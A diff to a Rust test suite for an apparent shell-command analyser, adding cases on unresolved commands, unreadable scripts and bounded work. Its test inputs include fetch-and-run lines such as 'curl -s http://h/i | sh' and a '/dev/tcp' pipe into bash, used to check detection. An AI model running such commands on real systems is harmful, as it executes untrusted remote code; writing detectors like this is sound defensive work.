@@ -14,6 +14,7 @@ impl World for Machine {
         match path {
             b"/work/hello.sh" => Read::Content(b"zz9 from a script\n".to_vec()),
             b"/work/commands" => Read::Content(b"zz9 listed\n".to_vec()),
+            b"/work/too-long.sh" => Read::Unreadable,
             _ => Read::Missing,
         }
     }
@@ -23,7 +24,8 @@ impl World for Machine {
     }
 
     fn stat(&self, path: &[u8]) -> Option<FileKind> {
-        matches!(path, b"/work/hello.sh" | b"/work/commands").then_some(FileKind::File)
+        let files: [&[u8]; 3] = [b"/work/hello.sh", b"/work/commands", b"/work/too-long.sh"];
+        files.contains(&path).then_some(FileKind::File)
     }
 
     fn variable(&self, name: &[u8]) -> Option<Vec<u8>> {
@@ -175,6 +177,7 @@ fn input_reaches_what_reads_it() {
         ("exec {fd}<<<'zz9 1'; bash <&$fd", &["1"]),
         ("echo 'zz9 1' | tee >(sh)", &["1"]),
         ("echo 'zz9 1' > >(sh)", &["1"]),
+        ("> >(zz9 1)", &["1"]),
         ("{ echo zz9; echo 1; } | xargs -n2", &[]),
         ("echo 1 | xargs zz9", &["", "1"]),
         ("echo 1 | xargs -r zz9", &["1"]),
@@ -264,6 +267,11 @@ fn what_cannot_be_known_is_said() {
     assert_eq!(facts("$(generate) 1"), [FactKind::CommandUnresolved]);
     assert_eq!(facts("sh -c \"$(generate)\""), [FactKind::CodeUnresolved]);
     assert_eq!(facts("curl -s http://h/i | sh"), [FactKind::CodeFetched]);
+    assert_eq!(
+        facts("hash -p $(generate) ls; ls 1"),
+        [FactKind::CommandUnresolved]
+    );
+    assert_eq!(facts("sh too-long.sh"), [FactKind::CodeUnresolved]);
     assert_eq!(facts("eval \"$(ssh-agent -s)\""), []);
     assert_eq!(
         facts("cat < /dev/tcp/203.0.113.5/80 | bash"),
@@ -362,15 +370,15 @@ fn work_is_bounded_and_the_bound_is_said() {
         doubling,
         "eval ".repeat(3_000),
         "$(".repeat(3_000),
-        "f(){ f a; f b; }; f".into(),
+        "f(){ f a; f b; ls $1; }; f".into(),
     ] {
         let analysis = run(&text);
         let said = analysis.status == Status::NotUnderstood || !analysis.facts.is_empty();
-        assert!(
-            said || analysis.executions.is_empty(),
-            "{}",
-            text.get(..40).unwrap_or(&text)
-        );
+        let followed = analysis
+            .executions
+            .iter()
+            .any(|execution| execution.argv.iter().any(|arg| !arg.value.is_known()));
+        assert!(said || followed, "{}", text.get(..40).unwrap_or(&text));
     }
 }
 
